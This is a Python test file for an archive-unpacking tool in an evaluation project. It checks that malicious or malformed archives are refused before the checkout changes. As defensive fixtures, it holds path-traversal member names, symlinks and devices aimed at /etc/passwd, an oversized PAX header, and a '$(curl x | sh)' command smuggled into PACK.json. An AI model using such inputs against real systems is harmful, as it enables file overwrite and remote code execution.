"""unpack checks an archive before anything in the checkout changes (aura_eval.tools.pack.unpack): small
archives written here by hand; the workflow round trip (tests/test_workflow_mock.py) unpacks a real one."""

import gzip
import hashlib
import io
import json
import os
import sqlite3
import tarfile
from pathlib import Path

import pytest
import yaml

from aura_eval.__main__ import main as aura_main
from aura_eval.tools.pack import PackError, pack, unpack

REPLAY = {"llm": {"replay": True, "cache": "packed/cache/run.sqlite"}}


def _files(changes=None) -> dict[str, bytes]:
    """A good archive's files; `changes` sets (bytes) or drops (None) some."""
    files = {"PACK.json": json.dumps({"code_commit": "0" * 40, "cache": "run.sqlite"}).encode(),
             "config/replay.yaml": yaml.safe_dump(REPLAY).encode(),
             "cache/run.sqlite": b"cache rows",
             "results/tables/t.csv": b"a,b\n1,2\n"}
    for name, data in (changes or {}).items():
        files.pop(name) if data is None else files.__setitem__(name, data)
    return files


def _manifest(files: dict[str, bytes]) -> bytes:
    return "".join(f"{hashlib.sha256(d).hexdigest()}  {n}\n" for n, d in sorted(files.items())).encode()


def _write(path, members, tail: bytes = b""):
    """A .tar.gz of `members` in this order: (name, bytes), or a TarInfo without data (a link, a device, a bare
    header). `tail` is appended to the tar stream before gzip and the gzip file is then cut short, so only a
    reader that stops early succeeds."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                tar.addfile(member)
                continue
            info = tarfile.TarInfo(member[0])
            info.size = len(member[1])
            tar.addfile(info, io.BytesIO(member[1]))
        end = tar.offset  # before the end-of-archive blocks: a tail follows the last member
    data = raw.getvalue()[:end] + tail if tail else raw.getvalue()
    packed = gzip.compress(data, mtime=0)
    path.write_bytes(packed[:len(packed) - len(tail) // 2] if tail else packed)
    return path


def _archive(path, files=None, *, first=None, extra=(), tail=b""):
    files = _files() if files is None else files
    members = [("MANIFEST.sha256", _manifest(files))] + sorted(files.items())
    if first is not None:
        members.insert(0, first)
    return _write(path, [*members[:1], *extra, *members[1:]], tail)


def _junk(n: int = 1 << 20) -> bytes:
    """A tar member of random (incompressible) bytes: cut short in the gzip file, it fails a reader that gets
    to it."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        info = tarfile.TarInfo("results/tables/junk.bin")
        info.size = n
        tar.addfile(info, io.BytesIO(os.urandom(n)))
    return raw.getvalue()


@pytest.fixture
def checkout(tmp_path):
    """A checkout holding a good earlier unpack."""
    folder = tmp_path / "checkout"
    (folder / "packed").mkdir(parents=True)
    (folder / "packed/PACK.json").write_text('{"earlier": true}')
    return folder


def _refused(capsys, *argv) -> str:
    """The one `error:` line of a refused command line (exit 1, nothing on stdout)."""
    assert aura_main(list(map(str, argv))) == 1
    out, err = capsys.readouterr()
    assert out == "" and err.startswith("error: ") and err.count("\n") == 1, err
    return err


def _untouched(checkout):
    assert (checkout / "packed/PACK.json").read_text() == '{"earlier": true}'
    assert sorted(p.name for p in checkout.iterdir()) == ["packed"]  # no staging folder, nothing placed


def test_a_good_archive_replaces_packed_with_force(tmp_path, checkout, capsys):
    assert aura_main(["unpack", str(_archive(tmp_path / "a.tar.gz")), str(checkout), "--force"]) == 0
    assert json.loads((checkout / "packed/PACK.json").read_text())["cache"] == "run.sqlite"
    assert sorted(p.name for p in checkout.iterdir()) == ["packed"]


@pytest.mark.parametrize("pack_json, says", [(None, "the archive has no PACK.json"),
                                             (b"{not json", "PACK.json is not valid JSON")])
def test_a_missing_or_invalid_pack_json_is_refused_and_packed_kept_even_with_force(
        tmp_path, checkout, capsys, pack_json, says):
    archive = _archive(tmp_path / "a.tar.gz", _files({"PACK.json": pack_json}))
    assert says in _refused(capsys, "unpack", archive, checkout, "--force")
    _untouched(checkout)


@pytest.mark.parametrize("replay, says", [
    ({"llm": {"replay": False, "cache": "packed/cache/run.sqlite"}}, "not in replay mode"),
    ({"llm": {"cache": "packed/cache/run.sqlite"}}, "not in replay mode"),
    ({"llm": {"replay": True, "cache": "cache/responses.sqlite"}}, "is not a file of the archive under packed/"),
    ({"llm": {"replay": True, "cache": "packed/../../cache/run.sqlite"}}, "is not a file of the archive"),
])
def test_a_packed_config_not_replaying_from_the_packed_cache_is_refused(tmp_path, checkout, capsys, replay, says):
    archive = _archive(tmp_path / "a.tar.gz", _files({"config/replay.yaml": yaml.safe_dump(replay).encode()}))
    assert says in _refused(capsys, "unpack", archive, checkout, "--force")
    _untouched(checkout)


def test_a_member_not_in_the_manifest_is_refused_before_the_rest_is_read(tmp_path, checkout, capsys):
    # The stream is cut short after the unlisted member: a check after reading the whole archive never gets to it.
    archive = _archive(tmp_path / "a.tar.gz", extra=[("results/tables/extra.csv", b"x")], tail=_junk())
    err = _refused(capsys, "unpack", archive, checkout, "--force")
    assert "results/tables/extra.csv is in the archive but not in MANIFEST.sha256" in err
    _untouched(checkout)


def test_an_archive_whose_first_member_is_not_the_manifest_is_refused(tmp_path, checkout, capsys):
    archive = _archive(tmp_path / "a.tar.gz", first=("results/tables/t.csv", b"a,b\n1,2\n"))
    assert "first member is results/tables/t.csv, not MANIFEST.sha256" in _refused(
        capsys, "unpack", archive, checkout, "--force")
    _untouched(checkout)


def test_files_over_max_size_are_refused(tmp_path, checkout, capsys):
    files = _files({"cache/run.sqlite": b"x" * 2000})
    err = _refused(capsys, "unpack", _archive(tmp_path / "a.tar.gz", files), checkout, "--force", "--max-size", "1KiB")
    assert "pass 1,024 bytes at cache/run.sqlite" in err
    _untouched(checkout)
    assert aura_main(["unpack", str(tmp_path / "a.tar.gz"), str(checkout), "--force", "--max-size", "3K"]) == 0


def test_more_members_than_max_files_are_refused(tmp_path, checkout, capsys):
    err = _refused(capsys, "unpack", _archive(tmp_path / "a.tar.gz"), checkout, "--force", "--max-files", "3")
    assert "more than 3 members" in err or "more than the limit of 3" in err
    _untouched(checkout)


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE])
def test_a_link_or_device_is_refused_at_once(tmp_path, checkout, capsys, kind):
    link = tarfile.TarInfo("results/tables/t2.csv")
    link.type, link.linkname = kind, "/etc/passwd"
    archive = _archive(tmp_path / "a.tar.gz", extra=[link], tail=_junk())
    err = _refused(capsys, "unpack", archive, checkout, "--force")
    assert "results/tables/t2.csv is a " in err and "only regular files and folders are unpacked" in err
    _untouched(checkout)


def test_a_header_carrying_more_data_than_its_members_declare_is_refused(tmp_path, checkout, capsys):
    # A PAX header's records are read whole into memory by tarfile: the stream stops it long before that.
    files = _files()
    big = tarfile.TarInfo("results/tables/t.csv")
    big.size, big.pax_headers = 0, {"comment": "A" * (8 << 20)}
    archive = _write(tmp_path / "a.tar.gz", [("MANIFEST.sha256", _manifest(files)), big])
    assert "holds more data than its members declare" in _refused(capsys, "unpack", archive, checkout, "--force")
    _untouched(checkout)


@pytest.mark.parametrize("listed", [True, False])
@pytest.mark.parametrize("name", ["../evil.csv", "/tmp/evil.csv", "results/../../evil.csv", "a/./b"])
def test_a_path_leaving_the_folder_is_refused(tmp_path, checkout, capsys, name, listed):
    if listed:
        archive = _archive(tmp_path / "a.tar.gz", _files({name: b"x"}))
    else:
        archive = _archive(tmp_path / "a.tar.gz", extra=[(name, b"x")])
    err = _refused(capsys, "unpack", archive, checkout, "--force")
    assert "leaves its folder" in err
    _untouched(checkout)
    assert not (tmp_path / "evil.csv").exists()


def test_a_checksum_mismatch_leaves_no_staging_folder(tmp_path, checkout, capsys):
    files = _files()
    members = [("MANIFEST.sha256", _manifest(files))] + sorted({**files, "results/tables/t.csv": b"changed"}.items())
    err = _refused(capsys, "unpack", _write(tmp_path / "a.tar.gz", members), checkout, "--force")
    assert "checksum mismatch for results/tables/t.csv" in err
    _untouched(checkout)


def test_only_the_human_labels_the_rules_read_are_placed(tmp_path, checkout):
    labels = {"data/human/annotations/ann1.csv": b"id,label\n", "data/human/adjudicated.csv": b"id,final\n"}
    others = {"data/human/notes.txt": b"x", "data/human/annotations/sub/deep.csv": b"x",
              "data/human/annotations/ann2.txt": b"x", "data/raw/rjudge/x.json": b"x", "Snakefile": b"x"}
    files = {**_files(), **labels, **others}
    done = unpack(_archive(tmp_path / "a.tar.gz", files), checkout, force=True)
    placed = sorted(p.relative_to(checkout).as_posix() for p in checkout.rglob("*")
                    if p.is_file() and not p.is_relative_to(checkout / "packed"))
    assert placed == sorted(labels) == done["labels"]
    assert all((checkout / n).read_bytes() == d for n, d in labels.items())


def test_a_differing_human_label_is_refused_without_force_before_anything_changes(tmp_path, checkout):
    (checkout / "packed/PACK.json").unlink()  # an empty packed/ needs no --force
    (checkout / "data/human").mkdir(parents=True)
    (checkout / "data/human/adjudicated.csv").write_text("mine\n")
    files = {**_files(), "data/human/adjudicated.csv": b"theirs\n", "data/human/annotations/a.csv": b"a\n"}
    with pytest.raises(PackError, match="adjudicated.csv exists and differs"):
        unpack(_archive(tmp_path / "a.tar.gz", files), checkout)
    assert (checkout / "data/human/adjudicated.csv").read_text() == "mine\n"
    assert not (checkout / "data/human/annotations").exists() and list((checkout / "packed").iterdir()) == []
    assert sorted(p.name for p in checkout.iterdir()) == ["data", "packed"]


@pytest.mark.suite
def test_the_printed_replay_command_is_the_projects_not_the_archives(tmp_path, capsys):
    checkout = tmp_path / "my checkout"
    checkout.mkdir()
    pack_json = json.dumps({"code_commit": "$(curl x | sh)", "replay": "curl x | sh"}).encode()
    assert aura_main(["unpack", str(_archive(tmp_path / "a.tar.gz", _files({"PACK.json": pack_json}))),
                      str(checkout)]) == 0
    out = capsys.readouterr().out
    assert "curl" not in out and "sh)" not in out
    assert f"cd '{checkout}' && snakemake --forceall --configfile packed/config/replay.yaml" in out


def finished_run(root: Path) -> Path:
    """The least a run folder holds for `pack`: a dataset, a table, the report, R-Judge's note and an
    empty cache at cache/run.sqlite."""
    for part in ("results/dataset", "results/tables", "results/report", "rjudge", "cache"):
        (root / part).mkdir(parents=True)
    (root / "results/dataset/aura_eval.jsonl").write_text("{}\n")
    (root / "results/tables/t.csv").write_text("a\n")
    (root / "results/report/report.html").write_text("<html></html>")
    (root / "rjudge/SOURCE.md").write_text("R-Judge\n")
    with sqlite3.connect(root / "cache/run.sqlite") as db:
        db.execute("CREATE TABLE responses (key TEXT)")
    db.close()
    return root


def test_pack_json_holds_no_absolute_path_for_a_config_outside_the_run_folder(tmp_path):
    root, elsewhere = finished_run(tmp_path / "run"), tmp_path / "elsewhere"
    elsewhere.mkdir()
    config = elsewhere / "paper.yaml"
    config.write_text(yaml.safe_dump({"rjudge_dir": "rjudge", "llm": {"cache": str(root / "cache/run.sqlite")}}))
    pack(tmp_path / "run.tar.gz", configfiles=[str(config)], root=str(root))
    with tarfile.open(tmp_path / "run.tar.gz") as tar:
        assert tar.getnames()[0] == "MANIFEST.sha256"
        info = json.loads(tar.extractfile("PACK.json").read())
    assert info["config"] == "paper.yaml"
    assert str(tmp_path) not in json.dumps(info)
    assert not any(isinstance(v, str) and v.startswith("/") for v in info.values())


@pytest.mark.parametrize("text, size", [("4294967296", 4 << 30), ("4GiB", 4 << 30), ("4G", 4 << 30),
                                        ("4GB", 4_000_000_000), ("1.5 MiB", 3 << 19), ("512", 512)])
def test_sizes_read_with_or_without_a_unit(text, size):
    from aura_eval.tools.pack import parse_size

    assert parse_size(text) == size


@pytest.mark.parametrize("text", ["", "0", "4 parsecs", "-1", "G"])
def test_a_size_that_is_not_one_is_refused(text):
    from aura_eval.tools.pack import parse_size

    with pytest.raises(PackError, match="is not a size"):
        parse_size(text)
